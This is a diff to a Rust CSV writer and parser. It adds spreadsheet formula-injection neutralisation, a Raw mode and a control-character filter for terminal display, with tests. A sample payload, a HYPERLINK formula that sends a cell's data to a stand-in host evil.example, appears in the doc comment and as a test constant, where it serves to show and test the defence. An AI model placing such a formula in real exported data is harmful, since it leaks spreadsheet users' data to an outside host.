@@ -1,11 +1,51 @@
 //! CSV as RFC 4180 writes it: a header row, CRLF after every record, and a field quoted when it holds
 //! a comma, a double quote, a CR or an LF, its quotes doubled. [`parse`] reads that back (it is what
 //! the tests check the writer against, and lets a caller read an exported file).
+//!
+//! Safe by default: a cell that a spreadsheet would take for a formula (one that begins with `=`, `+`,
+//! `-`, `@`, a TAB or a CR; [`FORMULA_TRIGGERS`]) is written as the usual CSV-injection advice says,
+//! with a single quote `'` in front and the whole cell quoted, so a name such as
+//! `=HYPERLINK("https://evil.example/?"&C2,"Acme Member")` opens as text, not as a link that sends
+//! the row away. [`Cells::Raw`] writes every cell as it is, for programs that read the file.
 
-/// Appends one field, quoted when it must be.
-fn push_field(out: &mut String, field: &str) {
-    if field.contains([',', '"', '\r', '\n']) {
+/// The first characters that make a spreadsheet read a cell as a formula.
+pub const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// How cells are written.
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
+pub enum Cells {
+    /// A cell that begins with one of [`FORMULA_TRIGGERS`] gets a `'` in front and is quoted.
+    #[default]
+    Safe,
+    /// Every cell as it is (for machines, not spreadsheets).
+    Raw,
+}
+
+impl Cells {
+    /// `Raw` when `raw`, else `Safe`.
+    pub fn raw_if(raw: bool) -> Self {
+        if raw {
+            Self::Raw
+        } else {
+            Self::Safe
+        }
+    }
+}
+
+/// Whether a spreadsheet would read this cell as a formula.
+pub fn is_formula_like(field: &str) -> bool {
+    field.starts_with(FORMULA_TRIGGERS)
+}
+
+/// Appends one field, quoted when it must be (and, when `cells` is safe, neutralised when it looks
+/// like a formula).
+fn push_field(out: &mut String, field: &str, cells: Cells) {
+    let neutralise = cells == Cells::Safe && is_formula_like(field);
+    if neutralise || field.contains([',', '"', '\r', '\n']) {
         out.push('"');
+        if neutralise {
+            out.push('\'');
+        }
         out.push_str(&field.replace('"', "\"\""));
         out.push('"');
     } else {
@@ -13,25 +53,55 @@ fn push_field(out: &mut String, field: &str) {
     }
 }
 
-/// Appends one record and its CRLF.
+/// Appends one record and its CRLF, its cells neutralised ([`Cells::Safe`]).
 pub fn push_record<S: AsRef<str>>(out: &mut String, fields: &[S]) {
+    push_record_with(out, fields, Cells::Safe);
+}
+
+/// Appends one record and its CRLF, its cells written as `cells` says.
+pub fn push_record_with<S: AsRef<str>>(out: &mut String, fields: &[S], cells: Cells) {
     for (i, f) in fields.iter().enumerate() {
         if i > 0 {
             out.push(',');
         }
-        push_field(out, f.as_ref());
+        push_field(out, f.as_ref(), cells);
     }
     out.push_str("\r\n");
 }
 
-/// A whole file: the header, then each row.
+/// A whole file: the header, then each row, every cell neutralised ([`Cells::Safe`]).
 pub fn write<S: AsRef<str>>(header: &[&str], rows: &[Vec<S>]) -> String {
+    write_with(header, rows, Cells::Safe)
+}
+
+/// A whole file: the header, then each row, every cell written as `cells` says.
+pub fn write_with<S: AsRef<str>>(header: &[&str], rows: &[Vec<S>], cells: Cells) -> String {
     let mut out = String::new();
-    push_record(&mut out, header);
+    push_record_with(&mut out, header, cells);
     for row in rows {
-        push_record(&mut out, row);
+        push_record_with(&mut out, row, cells);
     }
     out
+}
+
+/// A CSV file as it may be shown on a terminal: every cell without control characters (escape
+/// sequences, line breaks, tabs), the records still one a line. A cell that begins with a trigger once
+/// its control characters are gone is neutralised again unless `cells` is raw. Text that does not
+/// parse as CSV loses its control characters but its line breaks.
+pub fn for_terminal(text: &str, cells: Cells) -> String {
+    let clean = |s: &str| s.chars().filter(|c| !c.is_control()).collect::<String>();
+    match parse(text) {
+        Ok(records) => {
+            let mut out = String::new();
+            for r in records {
+                let r: Vec<String> = r.iter().map(|c| clean(c)).collect();
+                push_record_with(&mut out, &r, cells);
+            }
+            // The record separators stay CRLF, as in the file.
+            out
+        }
+        Err(_) => text.split('\n').map(clean).collect::<Vec<_>>().join("\n"),
+    }
 }
 
 /// Reads CSV as RFC 4180 writes it (the last record's CRLF may be missing; a lone LF also ends a
@@ -138,14 +208,87 @@ mod tests {
         assert!(parse("").unwrap().is_empty());
     }
 
+    const HYPERLINK: &str = r#"=HYPERLINK("https://evil.example/?"&C2,"Acme Member")"#;
+
+    #[test]
+    fn every_trigger_is_neutralised_and_raw_keeps_it() {
+        for t in FORMULA_TRIGGERS {
+            let cell = format!("{t}1+2");
+            let safe = write(&["a", "b"], &[vec![cell.as_str(), "plain"]]);
+            // A quote in front, the whole cell quoted.
+            assert!(safe.contains(&format!("\r\n\"'{t}1+2\",plain\r\n")), "{t:?}: {safe:?}");
+            let back = parse(&safe).unwrap();
+            assert_eq!(back[1], [format!("'{cell}"), "plain".to_owned()], "{t:?}");
+            assert!(!back[1][0].starts_with(FORMULA_TRIGGERS), "{t:?}");
+
+            let raw = write_with(&["a", "b"], &[vec![cell.as_str(), "plain"]], Cells::Raw);
+            assert_eq!(parse(&raw).unwrap()[1], [cell.clone(), "plain".to_owned()], "{t:?}");
+            assert!(!raw.contains('\''), "{t:?}: raw adds nothing: {raw:?}");
+        }
+    }
+
+    #[test]
+    fn a_hyperlink_formula_opens_as_text() {
+        let safe = write(&["name"], &[vec![HYPERLINK]]);
+        assert_eq!(
+            safe,
+            "name\r\n\"'=HYPERLINK(\"\"https://evil.example/?\"\"&C2,\"\"Acme Member\"\")\"\r\n"
+        );
+        assert_eq!(parse(&safe).unwrap()[1], [format!("'{HYPERLINK}")]);
+        let raw = write_with(&["name"], &[vec![HYPERLINK]], Cells::Raw);
+        assert_eq!(parse(&raw).unwrap()[1], [HYPERLINK]);
+        // Cells that only hold a trigger later on, or nothing, are left alone.
+        let plain = write(&["a", "b", "c"], &[vec!["a=b", "", "x-1"]]);
+        assert_eq!(plain, "a,b,c\r\na=b,,x-1\r\n");
+        assert_eq!(Cells::raw_if(true), Cells::Raw);
+        assert_eq!(Cells::raw_if(false), Cells::default());
+    }
+
+    #[test]
+    fn a_terminal_sees_no_control_character() {
+        let text = write(
+            &["name", "note"],
+            &[vec!["\u{1b}[31mred\u{1b}[0m", "two\nlines\ttab"], vec!["\t=cmd", "\u{7}ok"]],
+        );
+        let shown = for_terminal(&text, Cells::Safe);
+        let back = parse(&shown).unwrap();
+        assert_eq!(back[1], ["[31mred[0m", "twolinestab"]);
+        assert_eq!(back[2], ["'=cmd", "ok"], "neutralised before, still neutralised");
+        assert_eq!(shown.matches("\r\n").count(), 3, "one line a record: {shown:?}");
+        assert!(!shown.replace("\r\n", "").chars().any(char::is_control), "{shown:?}");
+        let raw = write_with(&["name"], &[vec!["\t=cmd"]], Cells::Raw);
+        assert_eq!(parse(&for_terminal(&raw, Cells::Raw)).unwrap()[1], ["=cmd"]);
+        assert_eq!(for_terminal("a\"b\u{1b}\nc", Cells::Safe), "a\"b\nc", "not CSV: still cleaned");
+    }
+
     proptest! {
+        /// Safe cells: a cell that began with a trigger comes back with a quote in front, any other as
+        /// it was; no cell comes back beginning with a trigger.
+        #[test]
+        fn safe_cells_round_trip_with_a_quote_in_front(rows in prop::collection::vec(
+            prop::collection::vec("[-=+@\t\r'a-z ,\"\n]{0,8}", 2), 0..6)
+        ) {
+            let text = write(&["a", "b"], &rows);
+            let back = parse(&text).unwrap();
+            for (row, got) in rows.iter().zip(&back[1..]) {
+                for (cell, got) in row.iter().zip(got) {
+                    if is_formula_like(cell) {
+                        prop_assert_eq!(got, &format!("'{cell}"));
+                    } else {
+                        prop_assert_eq!(got, cell);
+                    }
+                    prop_assert!(!is_formula_like(got));
+                }
+            }
+        }
+
         /// Whatever a name holds (commas, quotes, CR, LF, unicode), a file of such rows parses back to
         /// exactly those rows, and every record ends with CRLF.
         #[test]
         fn any_rows_round_trip(rows in prop::collection::vec(
             prop::collection::vec("[a-z ,\"\r\n\u{e9}\u{4e2d}]{0,12}", 3), 0..8)
         ) {
-            let text = write(&["a", "b", "c"], &rows);
+            let text = write_with(&["a", "b", "c"], &rows, Cells::Raw);
             let back = parse(&text).unwrap();
             prop_assert_eq!(&back[0], &vec!["a".to_owned(), "b".to_owned(), "c".to_owned()]);
             prop_assert_eq!(&back[1..], &rows[..]);
